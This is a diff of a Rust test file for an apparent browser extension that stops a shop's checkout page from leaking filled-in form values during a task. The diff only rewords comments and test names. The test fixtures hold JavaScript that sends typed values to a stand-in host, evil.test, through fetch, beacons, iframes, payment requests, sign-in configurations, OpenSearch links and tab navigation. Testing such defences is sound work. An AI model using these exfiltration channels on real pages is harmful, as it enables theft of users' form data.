@@ -1,11 +1,11 @@
-//! What a page does with what was filled in.
+//! The egress of a page with filled values.
 
 use std::thread;
 use std::time::{Duration, Instant};
 
 use crate::stage::{FORM, PATIENCE, REQUEST, Stage};
 
-/// Sends what is typed to the attacker in every way that a script has, and says so when it has tried them all.
+/// Sends typed text to the attacker over every channel of a script, and reports when it has tried them all.
 const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe>
   <iframe id="drawn" src="/drawn.svg"></iframe><iframe id="late"></iframe><a id="a"></a><script>
   const to = 'https://evil.test:PORT/';
@@ -25,10 +25,10 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
       `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${to}sandbox?${d}', { mode: 'no-cors' })<\/script>"></iframe>`),
     blank: (d) => { const el = document.body.appendChild(document.createElement('iframe'));
       el.contentWindow.fetch(to + 'blank?' + d, { mode: 'no-cors' }); },
-    // What the browser fetches by itself: who pays, who signs in, what may be visited next.
+    // Fetches of the browser itself: payment manifests, sign-in configurations, speculative navigations.
     payment: (d) => new PaymentRequest([{ supportedMethods: to + 'payment/' + d }],
       { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
-    // The same for a document that is no HTML.
+    // The same for a document that is not HTML.
     drawn: (d) => new (document.getElementById('drawn').contentWindow.PaymentRequest)([{ supportedMethods: to + 'drawn/' + d }],
       { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
     signin: (d) => navigator.credentials.get({ identity: { providers: [{ configURL: to + 'signin/' + d, clientId: 'x', nonce: 'x' }] } }),
@@ -68,11 +68,11 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
   addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(send, 50); });
   </script><iframe name="f"></iframe>"#;
 
-/// Takes the tab away by a frame that has no origin, which needs no press of the person's.
+/// Navigates the tab from a frame with an opaque origin, which needs no user gesture.
 const TAKES: &str = "void setTimeout(() => document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>top.location = '${to}taken?` +
     encodeURIComponent(document.forms[0].elements.street.value) + `'<\\/script>\" sandbox='allow-scripts allow-top-navigation'></iframe>`))";
 
-/// A document of the attacker's own, which sends to where it came from.
+/// A document of the attacker, which sends the referrer.
 const LATE: &str = "<!doctype html><script>
     addEventListener('message', (e) => { new Image().src = '/mine?' + encodeURIComponent(e.data); });</script>";
 
@@ -80,7 +80,7 @@ const LATE: &str = "<!doctype html><script>
 const WORKER: &str =
     "addEventListener('message', (e) => { fetch(e.data, { mode: 'no-cors' }).catch(() => {}); });";
 
-/// A page that names a description of its search, which the browser fetches by itself.
+/// A page with an OpenSearch description, which the browser fetches by itself.
 const SEARCHED: &str = "<!doctype html><link rel=search type='application/opensearchdescription+xml' title=x
     href='https://evil.test:PORT/described'>";
 
@@ -88,7 +88,7 @@ const FRAME: &str =
     "<!doctype html><script>addEventListener('message', (e) => { new Image().src = e.data; });</script>";
 
 #[test]
-fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over() {
+fn a_page_with_values_sends_them_nowhere_else_until_the_task_is_over() {
     let mut stage = Stage::new(17);
     stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
     stage.site.put("bank.test/frame", FRAME);
@@ -109,14 +109,14 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     arrive(&stage, "evil.test", &["described"]);
     stage.browser().open(&url);
 
-    // Without a value in it the page sends what it likes: so the attacker does listen.
+    // Without a value in it the page may send anything, which shows that the attacker receives requests.
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
     arrive(&stage, "evil.test", &WAYS);
     stage.browser().evaluate(TAKES);
     arrive(&stage, "evil.test", &["taken"]);
     stage.browser().arrive("evil.test");
-    // From here on the attacker's own document is on its way while the form is filled.
+    // From here on the attacker's own document loads while the form is filled.
     stage.site.hold("evil.test/slow");
     stage.browser().open(&url);
     let began = Instant::now();
@@ -143,7 +143,7 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(quiet(&stage), before, "a document that came later sends nothing");
 
-    // Nor by taking the whole tab there, nor from another tab of the same site, a worker stopped meanwhile or not.
+    // Neither a navigation of the tab nor another tab of the same site sends, with the worker stopped meanwhile or not.
     stage.browser().stop_worker();
     let leave = format!(
         "location.href = '{}?' + encodeURIComponent(document.forms[0].elements.street.value)",
@@ -152,17 +152,17 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.browser().evaluate(&leave);
     thread::sleep(Duration::from_millis(700));
     stage.browser().tab(&url);
-    // What is told by its tab alone, or by the policy of the page, is known a moment after the page is there.
+    // The policy of a tab or page is known a moment after the page has loaded.
     narrow_now(&mut stage);
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
     stage.browser().evaluate(TAKES);
     assert_eq!(quiet(&stage), before, "nor by leaving, nor from another tab");
 
-    // Another site in another tab is left alone, and the shop is narrow when the person comes back.
+    // Another site in another tab is unaffected, and the shop is restricted when the person returns.
     let bank = stage.site.url("bank.test/");
     stage.browser().tab(&bank);
-    // Another site's page is not ours to narrow.
+    // The extension does not restrict another site's page.
     arrive(&stage, "evil.test", &["logo"]);
     let before = quiet(&stage);
     stage.browser().open(&url);
@@ -175,7 +175,7 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.browser().open(&url);
     stage.no_value_got_out();
 
-    // The shop itself gets what is sent to it.
+    // The shop itself gets the requests to it.
     stage.browser().evaluate("fetch('/mine?' + 42)");
     arrive(&stage, "shop.test", &["mine?42"]);
 
@@ -183,7 +183,7 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     let began = Instant::now();
     while stage.site.sent_to("evil.test") == before {
         assert!(began.elapsed() < PATIENCE, "the task is over, and the way still narrow");
-        // The policy that a document was given goes with it.
+        // The policy of a document disappears with it.
         stage.browser().open(&url);
         stage.browser().evaluate("void ways.fetch('after').catch(() => {})");
         thread::sleep(Duration::from_millis(300));
@@ -191,7 +191,7 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
 }
 
 #[test]
-fn a_browser_that_was_started_anew_keeps_the_pages_of_the_task_narrow() {
+fn a_restarted_browser_keeps_the_pages_of_the_task_restricted() {
     let mut stage = Stage::new(18);
     stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
     stage.site.put("bank.test/frame", FRAME);
@@ -206,19 +206,19 @@ fn a_browser_that_was_started_anew_keeps_the_pages_of_the_task_narrow() {
     stage.browser().at_question("quit", &serde_json::json!({}));
     stage.browser = None;
 
-    // The browser has forgotten its rules, and the form may be there again with what was in it.
+    // The browser has forgotten its rules, and the form may be restored with its contents.
     stage.browse();
     stage.browser().open(&url);
     narrow_now(&mut stage);
     let before = quiet(&stage);
-    // Those for which the page in front is enough: its frames have their policies a moment later.
+    // For these the active page is enough: its frames get their policies a moment later.
     stage.browser().evaluate(
         "for (const name of ['fetch', 'beacon', 'image', 'style', 'script', 'frame', 'socket', 'worker', 'payment', 'form'])
             try { Promise.resolve(ways[name]('again')).catch(() => 0); } catch {}",
     );
     assert_eq!(quiet(&stage), before, "what the browser has forgotten is narrow again");
 
-    // Another task, while the worker is stopped: the first one's pages are the person's own again.
+    // A new task starts while the worker is stopped: the first one's pages are unrestricted again.
     stage.browser().stop_worker();
     stage.task();
     let began = Instant::now();
@@ -280,7 +280,7 @@ pub fn wait_for(stage: &mut Stage, condition: &str) {
     }
 }
 
-/// Waits until a host was asked for what begins so.
+/// Waits until a host got a request that begins so.
 pub fn arrive(stage: &Stage, host: &str, all: &[&str]) {
     let began = Instant::now();
     while let Some(missing) =
@@ -291,7 +291,7 @@ pub fn arrive(stage: &Stage, host: &str, all: &[&str]) {
     }
 }
 
-/// What the attacker was sent, once nothing more has come for a while.
+/// The requests at the attacker's host, once no more have arrived for a while.
 pub fn quiet(stage: &Stage) -> String {
     let mut sent = stage.site.sent_to("evil.test");
     loop {
@@ -304,7 +304,7 @@ pub fn quiet(stage: &Stage) -> String {
     }
 }
 
-/// Waits until the page in front has its policy; the rule about its tab is set right after it.
+/// Waits until the active page has its policy; the rule for its tab is set right after it.
 fn narrow_now(stage: &mut Stage) {
     wait_for(
         stage,
